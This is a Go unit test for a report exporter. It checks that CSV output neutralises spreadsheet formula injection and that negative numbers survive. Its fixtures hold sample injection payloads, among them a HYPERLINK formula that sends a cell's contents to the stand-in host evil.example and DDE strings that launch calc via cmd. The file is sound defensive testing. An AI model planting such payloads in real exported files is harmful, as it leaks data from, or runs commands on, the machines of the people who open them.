package reports

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"frontoffice/model"
	"frontoffice/model/csvio"
	"frontoffice/model/report"
	"frontoffice/ui/i18n"
)

// TestReportCSVNeutralisesInjection: a code that is not one of ours (another
// office's bundle may bring one) is shown as its own label; written to the
// report's CSV, neither code nor label is something a spreadsheet would run,
// and the figures, negative ones too, stay numbers.
func TestReportCSVNeutralisesInjection(t *testing.T) {
	payloads := []string{`=HYPERLINK("http://evil.example/"&C2,"Open")`, `+cmd|' /C calc'!A0`, `-2+3+cmd`,
		`@SUM(1+1)*cmd`, `Ltd;=cmd|' /C calc'!A0`}
	var r report.Report
	for _, p := range payloads {
		r.ByDirection = append(r.ByDirection, report.Row{Code: p, Count: 1})
	}
	r.ByRegion = []report.Row{{Code: "astana", Count: -3}}
	var out bytes.Buffer
	if err := WriteCSV(&out, r, i18n.New(model.RU)); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen, negative := 0, false
	for _, row := range rows[1:] {
		for i, cell := range row[:3] {
			for _, part := range strings.Split(cell, ";") {
				if part != "" && strings.ContainsAny(part[:1], "=+-@\t\r") {
					t.Errorf("%s holds %q, which a spreadsheet would run", CSVHeader[i], cell)
				}
			}
		}
		if row[0] == report.SectionDirection {
			if back := csvio.Unneutralize(row[1]); back != payloads[seen] {
				t.Errorf("code %q reads back as %q", payloads[seen], back)
			}
			seen++
		}
		if row[0] == report.SectionRegion && row[1] == "astana" {
			negative = row[3] == "-3"
		}
	}
	if !negative {
		t.Error("the negative figure was not written as -3")
	}
	if seen != len(payloads) {
		t.Errorf("%d of %d codes written", seen, len(payloads))
	}
}
